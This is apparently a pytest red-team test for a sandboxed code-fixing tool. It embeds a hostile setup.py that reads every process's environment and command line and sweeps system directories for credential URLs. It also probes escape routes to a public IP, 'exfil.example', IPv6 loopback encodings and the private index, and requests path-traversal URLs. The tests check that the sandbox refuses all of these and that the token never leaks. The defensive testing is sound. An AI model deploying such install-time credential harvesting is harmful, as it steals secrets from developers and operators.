"""Hostile issue, red team (issue 18 §2, §3): a repository whose `setup.py` tries every way
out of the setup phase and looks everywhere for the private index's token.

Through the real `frognano solve` with bubblewrap: the inferred `pip install -e .` runs
the repository's setup.py with network on. The operator's private index (HTTP with basic
auth on 127.0.0.1, tests/support/private_index.py) is FROGNANO_PIP_INDEX_URL, token and all, and
holds `corp-helper`, which the project needs. The setup.py, as an attacker would, reads
every process's environment and command line, pip's config files and everything readable
under /etc, /run, /tmp, /frognano and /workspace for a URL with credentials; it tries
CONNECT to a public address, a host not on the list, this host's own address, NAT64,
6to4, Teredo, mapped and IPv4-compatible forms of loopback, and the index's own host
(127.0.0.1) without the token; it connects directly, around the proxy; and it asks the
index endpoint for paths of its own choosing. Its findings go to $HOME/attack.json.

Only the private index is reached (by the host's endpoint, with the token), the token is
nowhere in the sandbox, the transcript or the output, every refusal is in the run's
transcript and log, and the project still installs and is fixed.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from solver.agent.transcript import read_transcript
from solver.models.scripted import final_answer, think_and_call
from tests.conftest import git, make_repo
from tests.reliability.conftest import Recorder
from tests.support.private_index import PrivateIndex, make_wheel, private_index
from tests.support.sandbox_support import HAVE_BWRAP, reachable_dir

pytestmark = [pytest.mark.reliability,
              pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap is not installed")]
TOKEN = "corp-index-token-5be0c7"
ISSUE = "add() is wrong\n\nadd(2, 3) should be 5."

SETUP_PY = r'''
import json, os, re, socket, urllib.request
from setuptools import setup

OUT = os.path.join(os.environ.get("HOME", "/tmp"), "attack.json")
TARGETS = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                      "targets.json")))
CREDENTIAL = re.compile(r"[a-z+]+://[^/\s:@]+:[^@\s/]+@[^\s'\"]+")


# Not the two-character escapes: setuptools' PEP 517 backend (uv builds through it)
# rewrites them to a bare newline in setup.py's source before it runs it.
CRLF = chr(13) + chr(10)


def connect_via_proxy(target):
    try:
        with socket.create_connection(("127.0.0.1", 3128), timeout=10) as s:
            s.sendall(f"CONNECT {target} HTTP/1.1{CRLF}Host: {target}{CRLF}{CRLF}".encode())
            return s.recv(400).decode("latin-1").splitlines()[0]
    except OSError as exc:
        return f"error: {exc}"


def connect_direct(host, port):
    try:
        socket.create_connection((host, port), timeout=5).close()
        return "connected"
    except OSError as exc:
        return f"error: {exc}"


def endpoint(path):
    try:
        with urllib.request.urlopen("http://127.0.0.1:3141" + path, timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as exc:
        return exc.code
    except OSError as exc:
        return f"error: {exc}"


def readable_text():
    found = {}
    for pid in os.listdir("/proc"):
        for part in ("environ", "cmdline"):
            try:
                found[f"/proc/{pid}/{part}"] = open(f"/proc/{pid}/{part}", "rb").read(
                    ).decode("latin-1").replace("\0", "\n")
            except OSError:
                pass
    for root in ("/etc", "/run", "/tmp", "/frognano", "/workspace"):
        for directory, _, names in os.walk(root):
            for name in names:
                path = os.path.join(directory, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 2_000_000:
                        found[path] = open(path, "rb").read().decode("latin-1")
                except OSError:
                    pass
    return found


def attack():
    texts = readable_text()
    port = TARGETS["service_port"]
    report = {
        "environ": dict(os.environ),
        "pip settings": {k: v for k, v in os.environ.items() if "PIP" in k or "proxy" in k.lower()},
        "credential urls": sorted({m for text in texts.values() for m in CREDENTIAL.findall(text)}),
        "files read": len(texts),
        "everything read": texts,
        "via proxy": {target: connect_via_proxy(target) for target in [
            "1.1.1.1:443", "exfil.example:443", f"{TARGETS['own']}:{port}",
            f"[64:ff9b::7f00:1]:{port}", f"[64:ff9b:1::7f00:1]:{port}",
            f"[2002:7f00:1::1]:{port}", f"[2001:0:7f00:1::1]:{port}",
            f"[::ffff:127.0.0.1]:{port}", f"[::127.0.0.1]:{port}", f"127.0.0.1:{port}",
            f"127.0.0.1:{TARGETS['index_port']}", f"localhost:{TARGETS['index_port']}"]},
        "direct": {f"{h}:{p}": connect_direct(h, p) for h, p in [
            (TARGETS["own"], port), ("127.0.0.1", TARGETS["index_port"]), ("1.1.1.1", 443)]},
        "endpoint": {path: endpoint(path) for path in [
            "/i/0/../../files/", "/i/0/%2e%2e/%2e%2e/", "/i/1/corp-helper/",
            "/f/00000000000000000000000000000000/x.whl", "/simple/corp-helper/",
            "/i/0/corp-helper/"]},
    }
    with open(OUT, "w") as handle:
        json.dump(report, handle)


if not os.path.exists(OUT):  # pip runs setup.py more than once
    attack()
setup(name="calc", version="1.0", py_modules=["calc"], install_requires=["corp-helper"])
'''


def own_address() -> str:
    """This host's address on its default route, as an attacker could learn it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("10.255.255.1", 9))  # no packet is sent: only a route is chosen
        return str(probe.getsockname()[0])


@contextmanager
def host_service() -> Iterator[tuple[int, list[str]]]:
    """A service on every address of this host (0.0.0.0), as sshd or a model server
    started with --host 0.0.0.0 is; it records who connected."""
    server = socket.create_server(("0.0.0.0", 0))
    hits: list[str] = []

    def accept() -> None:
        while True:
            try:
                conn, peer = server.accept()
            except OSError:
                return
            hits.append(str(peer))
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield server.getsockname()[1], hits
    finally:
        server.close()


def _repo(root: Path, targets: dict[str, object]) -> Path:
    return make_repo(root / "src", {
        "setup.py": SETUP_PY, "targets.json": json.dumps(targets),
        "calc.py": "def add(a, b):\n    return a - b\n",
        "tests/test_calc.py": "from calc import add\n\n\ndef test_add():\n"
                              "    assert add(2, 3) == 5\n"})


def _solve(source: Path, root: Path, state: Path, env: dict[str, str]
           ) -> tuple[subprocess.CompletedProcess[str], Path]:
    script = root / "script.json"
    script.write_text(json.dumps([
        think_and_call("Fix the sign.", "Edit", file_path="calc.py",
                       old_string="return a - b", new_string="return a + b"),
        final_answer("Fixed add().")]))
    transcript = root / "transcript.jsonl"
    proc = subprocess.run(
        [sys.executable, "-m", "frognano", "solve", str(source), "--issue", ISSUE,
         "--model", f"scripted:{script}", "--transcript", str(transcript),
         "--max-rounds", "1", "--sandbox", "bubblewrap", "--keep-workspace"],
        env={**os.environ, **env, "FROGNANO_STATE_DIR": str(state),
             "FROGNANO_WORK_DIR": str(root / "work"), "COLUMNS": "200"},
        capture_output=True, text=True, timeout=900)
    return proc, transcript


def _assert_only_the_index_was_reached(found: dict[str, Any], index: PrivateIndex,
                                       hits: list[str]) -> None:
    # Every way out refused: by the proxy (403), or no route at all from the namespace.
    assert all(a.startswith("HTTP/1.1 403") for a in found["via proxy"].values()), found
    assert all(a.startswith("error") for a in found["direct"].values()), found["direct"]
    assert hits == []
    assert found["endpoint"] == {"/i/0/../../files/": 404, "/i/0/%2e%2e/%2e%2e/": 404,
                                 "/i/1/corp-helper/": 404, "/simple/corp-helper/": 404,
                                 "/f/00000000000000000000000000000000/x.whl": 404,
                                 "/i/0/corp-helper/": 200}
    # Only the private index was reached, and only by the host's endpoint, with the token.
    assert index.requests and all(r["authorized"] and r["agent"] == "frognano-index"
                                  for r in index.requests), index.requests
    assert any(r["path"].startswith("/files/corp_helper") for r in index.requests)


def test_a_hostile_setup_py_reaches_only_the_index_and_never_sees_its_token(
        scorecard: Recorder) -> None:
    record = scorecard(
        "18-setup-egress-and-token",
        "Hostile issue: setup.py tries every way out and looks for the index token",
        "the inferred `pip install -e .` runs a setup.py that CONNECTs to a public IP, an "
        "unlisted host, the host's own address, NAT64/6to4/Teredo/mapped loopback and the "
        "index host, connects around the proxy and reads every environment and file: "
        "every try is refused and logged, only the private index is reached (by the host, "
        "with the token), the token is nowhere in the sandbox, transcript or output, and "
        "the project still installs from that index and is fixed")
    with reachable_dir() as root, host_service() as (port, hits):
        wheel = make_wheel(root, "corp-helper", "1.0", "VALUE = 42\n")
        with private_index(TOKEN, [wheel]) as index:
            own = own_address()
            source = _repo(root, {"own": own, "service_port": port,
                                  "index_port": index.port})
            # On the service's port: the address checks, not the port's, refuse them.
            listed = [f"{own}:{port}", *(f"[{v6}]:{port}" for v6 in (
                "64:ff9b::7f00:1", "64:ff9b:1::7f00:1", "2002:7f00:1::1", "2001:0:7f00:1::1",
                "::ffff:127.0.0.1", "::127.0.0.1"))]
            proc, transcript = _solve(source, root, root / "state", {
                "FROGNANO_PIP_INDEX_URL": index.url,
                # An operator naming those hosts must still not open them.
                "FROGNANO_SETUP_EGRESS_HOSTS": ",".join(listed)})
        attack_files = list((root / "work").glob("*/private/home/attack.json"))
        found = json.loads(attack_files[0].read_text()) if attack_files else {}
        workspace_text = "".join(p.read_text(errors="replace") for p in
                                 (root / "work").glob("*/workspace/**/*") if p.is_file())
        branches = git(source, "branch", "--list", "frognano/*").split()
        pushed = git(source, "log", "-p", branches[0]) if branches else ""
        records, transcript_text = read_transcript(transcript), transcript.read_text()
    setup = next((r for r in records if r["kind"] == "setup"), {})
    result = records[-1]
    refused = setup.get("network", [])
    record.observed = {
        "verdict": result.get("exit_reason"), "CONNECT answers": sorted(set(
            answer.split(" ", 2)[1] for answer in found.get("via proxy", {}).values())),
        "refusals in the transcript": len(refused),
        "credential URLs the sandbox found for the index": [
            u for u in found.get("credential urls", []) if f":{index.port}" in u],
        "host service connections": len(hits),
        "index requests (all with the token, by the endpoint)": len(index.requests)}
    output = proc.stdout + proc.stderr
    # The token is nowhere the sandbox or the run's outputs reach.
    # (What it finds are documentation examples in the venv's own packages.)
    assert not [u for u in found.get("credential urls", [])
                if f":{index.port}" in u or "ci:" in u]
    for where, text in (("sandbox", json.dumps(found)), ("transcript", transcript_text),
                        ("output", output), ("workspace", workspace_text),
                        ("branch", pushed)):
        assert TOKEN not in text, where
    assert proc.returncode == 0 and result["exit_reason"] == "tests_passed", output[-3000:]
    assert found, f"setup.py left no report: {output[-3000:]}"
    _assert_only_the_index_was_reached(found, index, hits)
    # The refusals are in the run's transcript and in the host's log, with their fix.
    assert any(line == "refused CONNECT exfil.example:443: not a package index host "
               "(FROGNANO_SETUP_EGRESS_HOSTS=exfil.example would allow it)"
               for line in refused), refused
    assert any(line.startswith(f"refused CONNECT 127.0.0.1:{index.port}: 127.0.0.1 "
                               "resolves to 127.0.0.1, not a public address") for line in
               refused), refused
    assert any("[64:ff9b::7f00:1]" in line and "IPv4" in line for line in refused), refused
    assert "setup network: refused CONNECT 1.1.1.1:443" in proc.stderr


def test_a_refused_host_fails_setup_with_the_setting_that_allows_it(
        scorecard: Recorder) -> None:
    record = scorecard(
        "18-setup-egress-refusal-named",
        "Setup phase: a refused host is named with its setting",
        "a `setup:` that downloads from a host not on the list fails, and the failure "
        "says which host:port was refused and FROGNANO_SETUP_EGRESS_HOSTS=host")
    with reachable_dir() as root:
        source = make_repo(root / "src", {
            ".github/frognano.yml": "setup: curl -fsS https://downloads.example.org/tool "
                                    "-o /tmp/tool\ntest: python3 -m pytest -q\n",
            "calc.py": "def add(a, b):\n    return a - b\n",
            "tests/test_calc.py": "from calc import add\n\n\ndef test_add():\n"
                                  "    assert add(2, 3) == 5\n"})
        proc, transcript = _solve(source, root, root / "state", {})
        result = read_transcript(transcript)[-1]
    record.observed = {"exit": result.get("exit_reason"), "error": result.get("error")}
    assert result["exit_reason"] == "setup_failed", result
    assert "refused CONNECT downloads.example.org:443: not a package index host " \
           "(FROGNANO_SETUP_EGRESS_HOSTS=downloads.example.org would allow it)" \
           in result["error"], result
    assert "FROGNANO_SETUP_EGRESS_HOSTS=downloads.example.org" in proc.stdout + proc.stderr
